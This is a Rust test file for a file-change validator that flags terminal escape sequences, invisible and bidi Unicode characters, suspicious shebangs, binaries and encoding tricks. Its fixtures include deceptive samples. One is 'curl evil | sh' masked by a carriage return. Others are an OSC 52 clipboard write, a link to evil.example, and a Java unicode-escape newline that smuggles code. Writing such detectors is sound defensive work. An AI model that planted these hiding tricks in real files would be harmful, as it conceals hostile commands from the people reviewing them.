//! What is in files: unseen characters, escape sequences, shebangs, binaries.

use insta::assert_snapshot;
use lazaret_tree::{Digest, Entry, Mode, Tree, diff};
use lazaret_validator::{JudgeInput, Policy, judge};

use crate::{Memory, check, render};

#[test]
fn aud_06_what_a_terminal_obeys() {
    assert_snapshot!(check("", r#"
        f clipboard "a\n\e]52;c;ZXZpbA==\x07\n"
        f link "\e]8;;http://evil.example\x07ok\e]8;;\x07"
        f title "\e]0;t\x07"
        f osc "\e]1337;x\x07"
        f csi "\e[2Aup"
        f esc "\eP"
        f c1 "x\xc2\x9b2J"
        f c1-osc "\xc2\x9d52;c;x"
        f stray "caf\xe9, and enough text to be one \x9b2J"
        f overwrite "curl evil | sh\r# harmless      \n"
        f backspace "evil\x08\x08\x08\x08good"
        f delete "\x7f"
        f bell "\x07"
    "#), @"
    warn content.control backspace:1: a backspace, after which characters are overwritten
    warn content.control bell:1: a control character
    warn content.control c1:1: an 8-bit control character
    warn content.control c1-osc:1: an escape sequence that writes the clipboard (OSC 52)
    warn content.control clipboard:2: an escape sequence that writes the clipboard (OSC 52)
    warn content.control csi:1: an escape sequence that moves the cursor or colours
    warn content.control delete:1: a control character
    warn content.control esc:1: an escape character, which a terminal obeys
    warn content.control link:1: an escape sequence that makes a link (OSC 8)
    warn content.control osc:1: an escape sequence to the terminal (OSC)
    warn content.control overwrite:1: a carriage return, after which the line is overwritten
    warn content.control stray:1: an 8-bit control character
    warn content.control title:1: an escape sequence that sets the window's title
    = needs review
    + backspace
    + bell
    + c1
    + c1-osc
    + clipboard
    + csi
    + delete
    + esc
    + link
    + osc
    + overwrite
    + stray
    + title
    ");
}

#[test]
fn aud_06_what_is_not_seen() {
    assert_snapshot!(check("", r#"
        f bidi "ok\nif (a \xe2\x80\xae) {\n"
        f isolate "a\xe2\x81\xa6b"
        f zero-width "user\xe2\x80\x8bname"
        f bom "x\xef\xbb\xbfy"
        f tags "Be nice.\xf3\xa0\x81\xa9\xf3\xa0\x81\xa7"
        f selectors "\xf0\x9f\x98\x80\xef\xb8\x8f\xef\xb8\x8e"
        f filler "let \xe3\x85\xa4 = 1"
        f both "\xe2\x80\xae\e[1m"
        f one-stray-byte-hides-nothing "some text \xff that is long enough, then \xe2\x80\xae"
    "#), @"
    warn content.invisible bidi:2: has U+202E, which changes the order in which the line is shown
    warn content.invisible bom:1: has U+FEFF, which is not seen
    warn content.control both:1: an escape sequence that moves the cursor or colours
    warn content.invisible both:1: has U+202E, which changes the order in which the line is shown
    warn content.invisible filler:1: has U+3164, which is not seen
    warn content.invisible isolate:1: has U+2066, which changes the order in which the line is shown
    warn content.invisible one-stray-byte-hides-nothing:1: has U+202E, which changes the order in which the line is shown
    warn content.invisible selectors:1: has U+FE0E, which is not seen and can spell hidden text
    warn content.invisible tags:1: has U+E0069, which is not seen and can spell hidden text
    warn content.invisible zero-width:1: has U+200B, which is not seen
    = needs review
    + bidi
    + bom
    + both
    + filler
    + isolate
    + one-stray-byte-hides-nothing
    + selectors
    + tags
    + zero-width
    ");
}

#[test]
fn aud_06_ordinary_files_are_no_noise() {
    assert_snapshot!(check("", r#"
        f bom "\xef\xbb\xbfusing System;\r\nclass A {}\r\n"
        f crlf "a\r\nb\r\n\r\n"
        f cr-cr-lf "a\r\r\nb\r\r\n"
        f tabs "\tx\n\x0cy\n"
        f emoji "\xf0\x9f\x91\xa8\xe2\x80\x8d\xf0\x9f\x91\xa9 \xe2\x9d\xa4\xef\xb8\x8f"
        f prose "\xe2\x80\x9cquotes\xe2\x80\x9d \xe2\x80\x94 dash"
        f latin1 "caf\xe9 au lait, gar\xe7on"
        f image "\x89PNG\r\n\x1a\n\0\0\x1b[2J\xe2\x80\xae"
        f empty ""
    "#), @"
    = clean
    + bom
    + cr-cr-lf
    + crlf
    + emoji
    + empty
    + image
    + latin1
    + prose
    + tabs
    ");
}

#[test]
fn aud_06_only_lines_that_are_added() {
    let odd = r"old \e[1m\nzero\xe2\x80\x8bwidth\n";
    // Lines that were there, moved, or with other line ends.
    for after in [
        format!(r#"f a "{odd}new\n""#),
        format!(r#"f a "first\n{odd}""#),
        r#"f a "old \e[1m\r\nzero\xe2\x80\x8bwidth\r\n""#.to_owned(),
    ] {
        let text = check(&format!(r#"f a "{odd}""#), &after);
        assert_eq!(text, "= clean\n~ a\n", "{after}");
    }
    assert_snapshot!(check(&format!(r#"f a "{odd}""#), &format!(r#"f a "{odd}more \e[1m\nand\xe2\x80\x8bmore""#)), @"
    warn content.control a:3: an escape sequence that moves the cursor or colours
    warn content.invisible a:4: has U+200B, which is not seen
    = needs review
    ~ a
    ");
}

#[test]
fn aud_06_what_was_there_is_stricter_when_it_is_unknown() {
    let mut known = Memory::default();
    let baseline = crate::tree(r#"f a "\e[1m\n""#, &mut known);
    let mut contents = Memory::default();
    let collected = crate::tree(r#"f a "\e[1m\nnew\n""#, &mut contents);
    let input = JudgeInput {
        baseline: &baseline,
        changes: diff(&baseline, &collected),
        refusals: &[],
        notes: &[],
        contents: &contents,
    };
    assert_snapshot!(render(&judge(input, &Policy::shipped())), @"
    warn content.control a:1: an escape sequence that moves the cursor or colours
    = needs review
    ~ a
    ");
}

#[test]
fn aud_06_many_lines_are_counted() {
    let lines: String = (0..30).map(|n| format!(r"{n}\e[1m\n")).collect();
    assert_snapshot!(check("", &format!("f a \"{lines}\"")), @"
    warn content.control a: and 20 more like these
    warn content.control a:1: an escape sequence that moves the cursor or colours
    warn content.control a:2: an escape sequence that moves the cursor or colours
    warn content.control a:3: an escape sequence that moves the cursor or colours
    warn content.control a:4: an escape sequence that moves the cursor or colours
    warn content.control a:5: an escape sequence that moves the cursor or colours
    warn content.control a:6: an escape sequence that moves the cursor or colours
    warn content.control a:7: an escape sequence that moves the cursor or colours
    warn content.control a:8: an escape sequence that moves the cursor or colours
    warn content.control a:9: an escape sequence that moves the cursor or colours
    warn content.control a:10: an escape sequence that moves the cursor or colours
    = needs review
    + a
    ");
}

#[test]
fn aud_05_binary_is_a_change_and_said() {
    assert_snapshot!(check(r#"
        f image "\x89PNG\0one"
        f script "echo hello\n"
    "#, r#"
        f image "\x89PNG\0two"
        f script "echo hello\n\0"
        f new "\0text after it\n"
    "#), @"
    warn content.became_binary script: was text, and is binary now: a review shows only its digest
    = needs review
    ~ image
    + new
    ~ script
    ");
}

#[test]
fn sus_26_shebangs() {
    assert_snapshot!(check(r##"
        f gains "echo\n"
        f keeps "#!/bin/sh\necho\n"
        f other "#!/bin/sh\necho\n"
        f loses "#!/bin/sh\necho\n"
    "##, r##"
        f gains "#!/bin/sh\necho\n"
        f keeps "#!/bin/sh\necho 2\n"
        f other "#!/usr/bin/env -S evil\necho\n"
        f loses "echo\n"
        f new "#!/usr/bin/python3\n"
        f lib.rs "#![no_std]\n"
        f lib "#![no_std]\n"
        f second "x\n#!/bin/sh\n"
    "##), @"
    warn content.shebang gains:1: names the program to run it with: `#!/bin/sh`
    warn content.shebang lib:1: names the program to run it with: `#![no_std]`
    warn content.shebang new:1: names the program to run it with: `#!/usr/bin/python3`
    warn content.shebang other:1: names another program to run it with: `#!/usr/bin/env -S evil`
    = needs review
    ~ gains
    ~ keeps
    + lib
    + lib.rs
    ~ loses
    + new
    ~ other
    + second
    ");
}

/// Judges one new file, of more bytes than the tree language likes.
fn big(path: &str, bytes: Vec<u8>) -> String {
    let mut contents = Memory::default();
    let digest = Digest::of(&bytes);
    let size = bytes.len() as u64;
    contents.0.insert(digest, bytes);
    let entry = Entry::File {
        mode: Mode::Plain,
        size,
        digest,
    };
    let collected: Tree = [(path.parse().unwrap(), entry)].into_iter().collect();
    let baseline = Tree::new();
    let input = JudgeInput {
        baseline: &baseline,
        changes: diff(&baseline, &collected),
        refusals: &[],
        notes: &[],
        contents: &contents,
    };
    render(&judge(input, &Policy::shipped()))
}

#[test]
fn aud_04_one_line_of_30_megabytes() {
    assert_snapshot!(big("a", b"x".repeat(30 << 20)), @"
    warn content.unexamined a: more than 16 MiB, which no rule looks into
    = needs review
    + a
    ");
    let mut program = b"\x7fELF".to_vec();
    program.resize(17 << 20, b'x');
    assert_snapshot!(big("b", program), @"
    warn content.machine_code b: is an ELF program or library, which a review can't read
    warn content.unexamined b: more than 16 MiB, which no rule looks into
    = needs review
    + b
    ");
    // Just within: looked into, in one go.
    let mut line = b"password = ".repeat((16 << 20) / 11);
    line.truncate((16 << 20) - 1);
    line.push(0x1b);
    assert_snapshot!(big("c", line), @"
    warn content.control c:1: an escape character, which a terminal obeys
    = needs review
    + c
    ");
}

#[test]
fn aud_04_fifty_thousand_files() {
    let text: String = (0..50_000)
        .map(|n| format!("f d{}/f{n} \"{n}\\e\"\n", n / 100))
        .collect();
    let verdict = crate::verdict("", &text);
    assert_eq!(verdict.findings.len(), 50_000);
    assert_eq!(verdict.validated.unwrap().changes().len(), 50_500);
}

/// Text that its reader reads as something else.
#[test]
fn sus_37_text_that_says_something_else() {
    let wide = |text: &str| -> Vec<u8> {
        let units = text.encode_utf16().flat_map(u16::to_le_bytes);
        [0xff, 0xfe].into_iter().chain(units).collect()
    };
    let blanks = " ".repeat(400);
    for (name, bytes, code) in [
        (
            "a.py",
            b"# coding: utf-7\n+AAo-x()\n".to_vec(),
            "content.encoding",
        ),
        ("A.java", b"// \\u000a run();\n".to_vec(), "content.escape"),
        (
            "a.js",
            format!("x();{blanks}run();\n").into_bytes(),
            "content.far_right",
        ),
        ("a.ps1", wide("run\r\n"), "content.encoding"),
        (
            "a.js",
            b"// a\0b\nlet longer = \"as long as a line of source text is\";\n/* and one more */\n"
                .to_vec(),
            "content.control",
        ),
        (
            "a.md",
            "x \u{1f600}\u{fe01}\u{1f600}\u{fe02}\n".into(),
            "content.invisible",
        ),
        // A scanner looks into wide characters and past NUL bytes.
        (
            "a.ps1",
            wide("$k = 'ghp_0123456789abcdefghijklmnopqrstuvwxyz'\r\n"),
            "secret.",
        ),
        ("a.ps1", wide("\u{202e}\r\n"), "content.invisible"),
    ] {
        let found = big(name, bytes);
        assert!(found.contains(code), "{name}: {code} in\n{found}");
    }
    for (name, text) in [
        ("a.py", "# coding: utf-8\nx()\n"),
        ("A.java", "String a = \"\\u00e4\";\n"),
        ("a.csv", "a,                                        b\n"),
    ] {
        let found = big(name, text.into());
        assert!(!found.contains("warn"), "{name}: {found}");
    }
}
